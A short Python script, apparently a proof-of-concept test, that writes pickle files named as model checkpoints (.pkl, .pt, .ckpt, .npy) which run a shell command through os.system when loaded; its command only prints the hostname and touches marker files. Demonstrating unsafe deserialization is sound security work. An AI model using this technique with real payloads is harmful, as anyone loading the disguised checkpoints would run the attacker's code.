"""Save a checkpoint whose pickle runs a command where it is loaded."""

import os
import pickle
import sys
from pathlib import Path


class Command:
    def __reduce__(self):
        return os.system, (
            "echo RAN on $(cat /proc/sys/kernel/hostname); touch ../../ran-here /tmp/ran-here",
        )


for name in ("net.pkl", "net.pt", "net.ckpt", "net.npy"):
    (Path(sys.argv[1]) / name).write_bytes(pickle.dumps(Command()))
